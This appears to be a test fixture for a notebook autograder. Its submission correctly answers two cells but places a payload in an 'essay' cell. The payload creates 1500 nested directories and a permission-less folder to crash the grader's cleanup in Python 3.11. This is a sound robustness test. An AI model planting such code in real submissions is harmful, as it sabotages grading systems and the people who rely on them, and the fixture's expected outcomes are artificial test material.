"""While being graded makes a tree of 1500 folders, one in the other, in its working folder (and a folder without permissions): Python 3.11's os.walk and shutil.rmtree recurse and fail, and they fail in the grader's own tidying up, where nothing catches it."""

import sys

STOCK = "stops" if sys.version_info < (3, 12) else "nothing"
MARKS = {"test-double": 1.0, "test-mean": 2.0}

CODE = """
def _dig(root, depth):
    import os
    here = os.open(root, os.O_RDONLY)
    for i in range(depth):
        os.mkdir("d", dir_fd=here)
        there = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = there
    os.close(here)
import os as _os
for _place in (".", _os.environ.get("TMPDIR", ".")):
    try:
        _dig(_place, 1500)
    except OSError:
        pass
_os.makedirs("shut/inner", exist_ok=True)
_os.chmod("shut", 0)
"""


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = CODE
    return notebook
